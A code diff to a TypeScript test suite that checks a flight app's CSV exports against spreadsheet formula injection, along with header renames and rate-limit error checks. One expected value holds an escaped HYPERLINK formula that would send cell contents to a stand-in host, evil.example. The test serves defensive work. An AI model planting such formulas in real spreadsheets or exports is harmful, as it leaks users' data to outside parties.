@@ -55,10 +55,10 @@ describe('CSV exports and formula injection', () => {
 		const text = await res.text();
 		const rows = rowsOf(text);
 		const value = (field: string) => rows.find((r) => r[0] === field)?.[1];
-		expect(value('title')).toBe(`'${TITLE}`);
-		expect(value('pilot')).toBe(`'${PILOT}`);
+		expect(value('Title')).toBe(`'${TITLE}`);
+		expect(value('Pilot')).toBe(`'${PILOT}`);
 		// The raw line: the cell is quoted as a whole, with its quotes doubled.
-		expect(text).toContain(`title,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open the flight"")",`);
+		expect(text).toContain(`Title,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open the flight"")",`);
 		for (const r of rows) for (const c of r) if (!/^-?\d+(\.\d+)?$/.test(c)) expect(FORMULA.test(c), `cell ${JSON.stringify(c)}`).toBe(false);
 	});
 
@@ -67,13 +67,13 @@ describe('CSV exports and formula injection', () => {
 		expect(res.status).toBe(200);
 		const rows = rowsOf(await res.text());
 		const header = rows[0];
-		const wpt = header.indexOf('waypoint');
-		const left = header.indexOf('left_on_arrival_usgal');
+		const wpt = header.indexOf('Waypoint');
+		const left = header.indexOf('Left on arrival (US gal)');
 		expect(rows.slice(1).map((r) => r[wpt])).toContain(`'${WAYPOINT}`);
 		expect(rows.slice(1).map((r) => r[wpt])).toContain(`'-WPT`);
 		const negatives = rows.slice(1).filter((r) => r[left].startsWith('-'));
 		expect(negatives.length).toBeGreaterThan(0);
-		for (const r of negatives) expect(r[left]).toMatch(/^-\d+\.\d{3}$/);
+		for (const r of negatives) expect(r[left]).toMatch(/^-\d+(\.\d{1,3})?$/);
 		for (const r of rows) for (const [k, c] of r.entries()) if (k !== left && !/^-?\d+(\.\d+)?$/.test(c)) expect(FORMULA.test(c), `cell ${JSON.stringify(c)}`).toBe(false);
 	});
 });
@@ -100,7 +100,7 @@ describe('heavy exports', () => {
 		const second = await exportAs(pilot, '');
 		expect(second.status).toBe(429);
 		expect(second.headers.get('retry-after')).toBe('15');
-		expect((await second.json()).error).toMatch(/exporting 1 long flights already/);
+		expect((await second.json()).detail).toMatch(/exporting 1 long flights already/);
 		// The summary of a heavy flight computes it all too: it is limited the same way.
 		expect((await exportAs(pilot, '?what=summary')).status).toBe(429);
 		await first.text();
